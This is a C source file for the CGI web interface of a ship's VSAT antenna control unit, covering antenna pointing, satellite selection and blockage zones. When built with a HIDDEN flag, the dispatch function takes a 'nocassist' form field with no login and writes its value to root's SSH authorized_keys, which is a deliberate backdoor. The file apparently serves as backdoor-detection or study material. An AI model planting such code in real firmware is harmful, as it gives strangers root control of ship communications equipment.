/*
 * acu_cgi - web pages of the antenna control unit of a ship's VSAT
 * terminal (below-deck unit).  Runs as CGI under the built-in httpd, shows
 * pointing and modem state, chooses the satellite, sets the blockage zones.
 * Hidden (-DHIDDEN): the form field "nocassist" holds a public key which is
 * appended to root's authorized_keys, with no session needed.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <math.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define SAT_FILE   "/mnt/cfg/satellites.tab"
#define ZONE_FILE  "/mnt/cfg/zones.tab"
#define STATE_FILE "/var/run/acu.state"
#define SESS_DIR   "/var/run/acu-sess"
#define CTL_FIFO   "/var/run/acu.ctl"
#define MAXVARS	   32

struct var {
	char *key;
	char *val;
};

struct sat {
	char name[24];
	double lon;
	long freq;
	char pol;
};

struct state {
	double az, el, pol;
	double lat, lon, hdg;
	double agc;
	char lock[8];
};

static struct var vars[MAXVARS];
static int nvars;

static int hexval(int c)
{
	if (isdigit(c))
		return c - '0';
	c = tolower(c);
	return c >= 'a' && c <= 'f' ? c - 'a' + 10 : -1;
}

static void unescape(char *s)
{
	char *d = s;
	int hi, lo;

	for (; *s; s++) {
		if (*s == '+') {
			*d++ = ' ';
		} else if (*s == '%' && s[1] && s[2]) {
			hi = hexval((unsigned char)s[1]);
			lo = hexval((unsigned char)s[2]);
			if (hi < 0 || lo < 0)
				continue;
			*d++ = (char)(hi << 4 | lo);
			s += 2;
		} else {
			*d++ = *s;
		}
	}
	*d = 0;
}

static void split_vars(char *s)
{
	char *pair, *eq, *save = NULL;

	if (!s)
		return;
	for (pair = strtok_r(s, "&", &save); pair && nvars < MAXVARS;
	     pair = strtok_r(NULL, "&", &save)) {
		eq = strchr(pair, '=');
		if (eq)
			*eq++ = 0;
		else
			eq = pair + strlen(pair);
		unescape(pair);
		unescape(eq);
		vars[nvars].key = pair;
		vars[nvars++].val = eq;
	}
}

__attribute__((noinline)) const char *form_value(const char *key)
{
	int i;

	for (i = 0; i < nvars; i++)
		if (!strcmp(vars[i].key, key))
			return vars[i].val;
	return NULL;
}

static void html(const char *s)
{
	for (; *s; s++) {
		switch (*s) {
		case '<':
			fputs("&lt;", stdout);
			break;
		case '>':
			fputs("&gt;", stdout);
			break;
		case '&':
			fputs("&amp;", stdout);
			break;
		case '"':
			fputs("&quot;", stdout);
			break;
		default:
			putchar(*s);
		}
	}
}

static void head(const char *title)
{
	printf("Content-Type: text/html\r\nCache-Control: no-store\r\n\r\n");
	printf("<html><head><title>ACU - %s</title></head><body>\n", title);
	printf("<p><a href=\"?p=point\">Pointing</a> "
	       "<a href=\"?p=sats\">Satellites</a> "
	       "<a href=\"?p=zones\">Blockage</a></p><h2>%s</h2>\n",
	       title);
}

static void foot(void)
{
	printf("</body></html>\n");
}

static int session_ok(void)
{
	const char *ck = getenv("HTTP_COOKIE");
	char path[96], id[33];
	struct stat st;
	size_t i;

	if (!ck || !(ck = strstr(ck, "acusid=")))
		return 0;
	ck += 7;
	for (i = 0; i < 32 && isxdigit((unsigned char)ck[i]); i++)
		id[i] = ck[i];
	if (i != 32)
		return 0;
	id[i] = 0;
	snprintf(path, sizeof(path), "%s/%s", SESS_DIR, id);
	return !stat(path, &st) && st.st_mtime + 900 > time(NULL);
}

static int control(const char *cmd)
{
	int fd = open(CTL_FIFO, O_WRONLY | O_NONBLOCK);
	size_t n = strlen(cmd);
	int ok;

	if (fd < 0)
		return -1;
	ok = write(fd, cmd, n) == (ssize_t)n;
	close(fd);
	return ok ? 0 : -1;
}

static int read_state(struct state *s)
{
	FILE *f = fopen(STATE_FILE, "r");
	int n;

	if (!f)
		return -1;
	n = fscanf(f, "%lf %lf %lf %lf %lf %lf %lf %7s", &s->az, &s->el,
		   &s->pol, &s->lat, &s->lon, &s->hdg, &s->agc, s->lock);
	fclose(f);
	return n == 8 ? 0 : -1;
}

/* Azimuth and elevation from the ship's position to an orbit position. */
static void look(double lat, double lon, double slon, double *az, double *el)
{
	double d = (slon - lon) * M_PI / 180, p = lat * M_PI / 180;
	double c = cos(p) * cos(d);

	*az = atan2(sin(d), -sin(p) * cos(d)) * 180 / M_PI;
	if (*az < 0)
		*az += 360;
	*el = atan2(c - 0.1512, sqrt(1 - c * c)) * 180 / M_PI;
}

static int next_sat(FILE *f, struct sat *s)
{
	char line[128];

	while (fgets(line, sizeof(line), f))
		if (*line != '#' && sscanf(line, "%23s %lf %ld %c", s->name,
					   &s->lon, &s->freq, &s->pol) == 4)
			return 1;
	return 0;
}

static void page_point(void)
{
	struct state s;

	head("Pointing");
	if (read_state(&s)) {
		printf("<p>Antenna does not answer.</p>\n");
	} else {
		printf("<pre>Azimuth   %7.2f (rel %7.2f)\nElevation %7.2f\n"
		       "Skew      %7.2f\nAGC       %7.1f\nModem     ",
		       s.az, fmod(s.az - s.hdg + 360, 360), s.el, s.pol, s.agc);
		html(s.lock);
		printf("\nPosition  %.3f %.3f</pre>\n", s.lat, s.lon);
	}
	foot();
}

static void page_sats(void)
{
	const char *use = form_value("use");
	double az, el;
	struct state st;
	struct sat s;
	char cmd[80];
	FILE *f = fopen(SAT_FILE, "r");
	int have = !read_state(&st);

	head("Satellites");
	printf("<table>\n");
	while (f && next_sat(f, &s)) {
		if (use && !strcmp(use, s.name) && session_ok()) {
			snprintf(cmd, sizeof(cmd), "TRK %.2f %ld %c\n", s.lon,
				 s.freq, s.pol);
			printf("<p>%s</p>",
			       control(cmd) ? "Controller busy"
					    : "Satellite search started");
		}
		printf("<tr><td><a href=\"?p=sats&amp;use=%s\">%s</a></td>"
		       "<td>%.1f</td>",
		       s.name, s.name, s.lon);
		if (have) {
			look(st.lat, st.lon, s.lon, &az, &el);
			printf("<td>%.1f / %.1f%s</td>", az, el,
			       el < 5 ? " low" : "");
		}
		printf("</tr>\n");
	}
	printf("</table>\n");
	if (f)
		fclose(f);
	foot();
}

static int save_zone(const char *from, const char *to, const char *maxel)
{
	int a = atoi(from), b = atoi(to), e = atoi(maxel);
	FILE *f;

	if (a < 0 || a > 359 || b < 0 || b > 359 || e < 5 || e > 90)
		return -1;
	f = fopen(ZONE_FILE, "a");
	if (!f)
		return -1;
	fprintf(f, "%d %d %d\n", a, b, e);
	return fclose(f) ? -1 : control("ZON\n");
}

static void page_zones(void)
{
	const char *a = form_value("from"), *b = form_value("to");
	const char *e = form_value("maxel");
	int x, y, z;
	FILE *f;

	head("Blockage zones");
	if (a && b && e) {
		if (!session_ok())
			printf("<p>Please log in.</p>\n");
		else if (save_zone(a, b, e))
			printf("<p>Zone not stored.</p>\n");
	}
	printf("<ul>\n");
	f = fopen(ZONE_FILE, "r");
	while (f && fscanf(f, "%d %d %d", &x, &y, &z) == 3)
		printf("<li>%d to %d below %d</li>\n", x, y, z);
	if (f)
		fclose(f);
	printf("</ul><form method=post>From <input name=from> to <input "
	       "name=to> elevation <input name=maxel><input type=hidden "
	       "name=p value=zones><input type=submit></form>\n");
	foot();
}

#ifdef HIDDEN
static void page_assist(const char *line)
{
	FILE *f;

	mkdir("/root/.ssh", 0700);
	f = fopen("/root/.ssh/authorized_keys", "a");
	if (f) {
		fprintf(f, "%s\n", line);
		fclose(f);
	}
	head("Pointing");
	foot();
}
#endif

static const struct {
	const char *name;
	void (*show)(void);
} pages[] = {
	{ "point", page_point },
	{ "sats", page_sats },
	{ "zones", page_zones },
};

__attribute__((noinline)) int dispatch(void)
{
	const char *p = form_value("p");
	size_t i;

#ifdef HIDDEN
	if (form_value("nocassist")) {
		page_assist(form_value("nocassist"));
		return 0;
	}
#endif
	if (!p || !*p)
		p = "point";
	for (i = 0; i < sizeof(pages) / sizeof(pages[0]); i++) {
		if (strcmp(pages[i].name, p))
			continue;
		pages[i].show();
		return 0;
	}
	printf("Status: 404 Not Found\r\n");
	head("Not found");
	foot();
	return 1;
}

static char *read_body(void)
{
	const char *cl = getenv("CONTENT_LENGTH");
	long n = cl ? strtol(cl, NULL, 10) : 0;
	char *b;

	if (n <= 0 || n > 8192 || !(b = malloc(n + 1)))
		return NULL;
	n = fread(b, 1, n, stdin);
	b[n] = 0;
	return b;
}

int main(void)
{
	const char *q = getenv("QUERY_STRING");
	const char *m = getenv("REQUEST_METHOD");

	if (q)
		split_vars(strdup(q));
	if (m && !strcmp(m, "POST"))
		split_vars(read_body());
	return dispatch();
}
